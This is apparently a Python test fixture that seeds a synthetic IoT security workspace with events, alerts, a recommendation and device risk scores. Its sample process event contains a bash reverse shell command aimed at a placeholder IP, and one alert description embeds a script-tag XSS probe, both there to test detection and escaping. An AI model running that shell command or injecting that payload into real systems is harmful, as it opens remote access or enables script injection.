"""A small fleet written into a real workspace: raw events, an alert citing them, a
recommendation and Device rows with risk, all timed relative to ``now``.

The service backend test and the browser test both read it through the real query API.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timedelta

import pyarrow as pa  # type: ignore[import-untyped]  # pyarrow ships no type hints

from iotsec.schema import (
    ListeningPorts,
    ListeningPortsEvent,
    ProcessCreate,
    ProcessCreateEvent,
    SecurityMessage,
    encode_message,
)
from iotsec.stream import Entry, Record
from iotsec.workspace.rows import HubIdentity, RowBuilder
from iotsec.workspace.sinks import AlertRow, RecommendationRow
from iotsec.workspace.store import WorkspaceStore

HUB = HubIdentity("/subscriptions/sub-1/resourceGroups/rg/providers/Microsoft.Devices/IotHubs/hub")
SHELL_EVENT = "6f1c2b9e-5d0a-4c1e-9b7a-2a1e0c3d4f50"
PORTS_EVENT = "0a9b8c7d-6e5f-4a3b-8c2d-1e0f9a8b7c6d"
SHELL_EVIDENCE = f"{SHELL_EVENT}:0"
ALERT_ID = "alert-reverse-shell-1"
QUIET_ALERT_ID = "alert-failed-login-2"
OPEN_ALERT_ID = "alert-new-user-3"
DEVICE = "cam-1"
QUIET_DEVICE = "gw-2"


@dataclass(frozen=True)
class Fleet:
    """What ``fill`` wrote, for assertions."""

    now: datetime
    devices: tuple[str, ...] = (DEVICE, QUIET_DEVICE)


def _raw_events(now: datetime) -> dict[str, pa.Table]:
    shell = ProcessCreateEvent.create(
        [
            ProcessCreate(
                executable="/bin/bash",
                process_id=4242,
                parent_process_id=1,
                user_id="0",
                command_line="bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
                user_name="root",
            )
        ],
        at=now - timedelta(minutes=2),
        event_id=SHELL_EVENT,
    )
    ports = ListeningPortsEvent.create(
        [ListeningPorts(protocol="TCP", local_port="23", local_address="0.0.0.0")],
        at=now - timedelta(minutes=3),
        event_id=PORTS_EVENT,
    )
    message = SecurityMessage.create([shell, ports], agent_id=SHELL_EVENT, agent_version="1.0.0")
    headers = {
        "device_id": DEVICE,
        "protocol": "mqtt",
        "source_ip": "127.0.0.1",
        "enqueued_time": repr(now.timestamp()),
    }
    builder = RowBuilder(HUB)
    builder.add(
        Entry(0, 0, Record(DEVICE, "security", encode_message(message), headers, now.timestamp()))
    )
    return builder.build()


def alert_rows(now: datetime) -> list[AlertRow]:
    """The fleet's alerts: one open High with evidence, one dismissed, one open Medium."""
    return [
        AlertRow(
            time_generated=now - timedelta(minutes=1),
            system_alert_id=ALERT_ID,
            alert_name="IoT_ReverseShell",
            alert_type="IoT_ReverseShell",
            display_name="Reverse shell detected",
            alert_severity="High",
            description="bash -i connected to 203.0.113.9:4444 <script>alert(1)</script>",
            device_id=DEVICE,
            start_time=now - timedelta(minutes=2),
            end_time=now - timedelta(minutes=2),
            remediation_steps=["Isolate the device.", "Rotate its credentials."],
            extended_properties={
                "DeviceId": DEVICE,
                "Remote Address": "203.0.113.9",
                "EvidenceEventIds": [SHELL_EVIDENCE],
            },
            status="Active",
            tactics="Execution",
            techniques="T1059",
        ),
        AlertRow(
            time_generated=now - timedelta(days=2),
            system_alert_id=QUIET_ALERT_ID,
            alert_name="IoT_FailedLocalLogin",
            display_name="Failed local login",
            alert_severity="Low",
            device_id=QUIET_DEVICE,
            status="Dismissed",
        ),
        AlertRow(
            time_generated=now - timedelta(hours=3),
            system_alert_id=OPEN_ALERT_ID,
            alert_name="IoT_UserAdded",
            display_name="Local user added",
            alert_severity="Medium",
            description="useradd created 'support' on gw-2",
            device_id=QUIET_DEVICE,
            status="Active",
        ),
    ]


def fill(store: WorkspaceStore, now: datetime) -> Fleet:
    """Write the fleet into ``store``."""
    for table, data in _raw_events(now).items():
        store.append(table, data)
    store.write_alerts(alert_rows(now))
    store.write_recommendations(
        [
            RecommendationRow(
                time_generated=now - timedelta(minutes=1),
                recommendation_id="rec-open-ports-cam-1",
                recommendation_name="IoT_OpenPorts",
                recommendation_display_name="Open ports on device",
                recommendation_severity="Medium",
                device_id=DEVICE,
                description="Port 23 (telnet) listens on all interfaces.",
                recommendation_additional_data={"Ports": ["23"]},
                discovered_time_utc=now - timedelta(minutes=3),
            )
        ]
    )
    store.append(
        "Device",
        pa.table(
            {
                "DeviceId": [DEVICE, QUIET_DEVICE],
                "TimeGenerated": [now, now],
                "SecurityGroup": ["cameras", "gateways"],
                "Status": ["enabled", "enabled"],
                "FirstSeen": [now - timedelta(days=3), now - timedelta(days=3)],
                "LastSeen": [now - timedelta(minutes=2), now - timedelta(days=1)],
                "RiskScore": [82.0, 12.0],
                "RiskLevel": ["High", "Low"],
                "Tags": [
                    '{"RiskExplanation": ["reverse shell (High alert)", "telnet open"]}',
                    "{}",
                ],
            }
        ),
    )
    return Fleet(now)
